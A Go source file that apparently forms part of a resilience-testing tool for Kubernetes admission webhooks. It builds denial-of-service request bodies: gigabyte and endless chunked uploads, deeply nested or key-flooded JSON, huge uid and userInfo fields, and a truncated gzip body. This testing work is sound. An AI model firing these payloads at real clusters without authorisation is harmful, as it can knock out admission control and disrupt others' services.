package attack

import (
	"context"
	"fmt"
	"io"
	"net/http/httputil"
	"strings"
)

// A review to create a pod, in which more can be inserted.
const (
	beginning = `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"attack","kind":{"group":"","version":"v1","kind":"Pod"},` +
		`"resource":{"group":"","version":"v1","resource":"pods"},"namespace":"default","operation":"CREATE"`
	object = `,"object":{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a","namespace":"default"},"spec":`
)

// large is the size of large reviews: a few megabytes.
const large = 3 << 20

// posted are the attacks that send much, or data that is expensive to decode.
func posted() []Attack {
	// in is a review with text in the spec of its object.
	in := func(spec string) string { return beginning + object + spec + "}}}" }
	beside := func(fields string) string { return beginning + "," + fields + object + "{}}}}" }
	many := func(text string) string { return strings.Repeat(text+",", large/(len(text)+1)) + text }
	return []Attack{
		repeated("a large body", "Content-Length", 30<<20),
		repeated("a large body in chunks", "Transfer-Encoding", 30<<20),
		repeated("a body without an end", "Transfer-Encoding", 1<<30),
		whole("arrays", in("["+many("[]")+"]")),
		whole("objects", in("["+many(`{"":0}`)+"]")),
		whole("numbers", in("["+many("1.5")+"]")),
		whole("a long number", in(strings.Repeat("9", large))),
		whole("deep nesting", in(strings.Repeat("[", 990)+strings.Repeat("]", 990))),
		whole("too deep nesting", in(strings.Repeat(`{"a":`, large/5))),
		whole("keys", in("{"+numbered(`"%06x":0`)+"}")),
		whole("keys of the review", beside(numbered(`"%06x":0`))),
		whole("the same key", in("{"+many(`"a":0`)+"}")),
		whole("long keys", in(`{"`+strings.Repeat("k", 64<<10)+`":{"`+strings.Repeat("k", 64<<10)+`":0}}`)),
		whole("escapes", in(`"`+strings.Repeat(`\u00e9`, large/6)+`"`)),
		whole("groups", beside(`"userInfo":{"username":"u","groups":[`+many(`""`)+"]}")),
		whole("extras", beside(`"userInfo":{"username":"u","extra":{`+numbered(`"%06x":[]`)+"}}")),
		whole("a long uid", strings.Replace(in("{}"), `"attack"`, `"`+strings.Repeat("u", large)+`"`, 1)),
		whole("three objects", beside(`"oldObject":{"a":"`+strings.Repeat("x", large)+`"},"options":{"a":[`+many("0")+"]}")),
		compressed(),
	}
}

// numbered is a list of the pattern with each number.
func numbered(pattern string) string {
	var text strings.Builder
	for i := 0; text.Len() < large; i++ {
		if i > 0 {
			text.WriteByte(',')
		}
		fmt.Fprintf(&text, pattern, i)
	}
	return text.String()
}

// whole posts a body.
func whole(name, body string) Attack {
	return Attack{name, true, func(ctx context.Context, t *Target) error {
		return t.post(ctx, fmt.Sprintf("Content-Length: %d", len(body)), func() io.Reader { return strings.NewReader(body) })
	}}
}

func compressed() Attack {
	return Attack{"a compressed body", true, func(ctx context.Context, t *Target) error {
		return t.post(ctx, "Content-Encoding: gzip\r\nContent-Length: 2", func() io.Reader { return strings.NewReader("\x1f\x8b") })
	}}
}

// repeated posts a body of one long text, which is made as it is sent.
func repeated(name, header string, size int) Attack {
	return Attack{name, true, func(ctx context.Context, t *Target) error {
		body := func() io.Reader {
			return io.MultiReader(strings.NewReader(beginning+`,"name":"`), io.LimitReader(endless{}, int64(size)))
		}
		if header == "Content-Length" {
			return t.post(ctx, fmt.Sprintf("Content-Length: %d", len(beginning+`,"name":"`)+size), body)
		}
		return t.post(ctx, "Transfer-Encoding: chunked", func() io.Reader { return chunked(body()) })
	}}
}

// endless is a text without an end.
type endless struct{}

// Read implements [io.Reader].
func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	return len(p), nil
}

// chunked encodes a body in chunks.
func chunked(body io.Reader) io.Reader {
	r, w := io.Pipe()
	go func() {
		chunks := httputil.NewChunkedWriter(w)
		_, err := io.CopyBuffer(struct{ io.Writer }{chunks}, body, make([]byte, 16<<10))
		if err == nil {
			err = chunks.Close()
		}
		if err == nil {
			_, err = io.WriteString(w, "\r\n")
		}
		_ = w.CloseWithError(err)
	}()
	return r
}
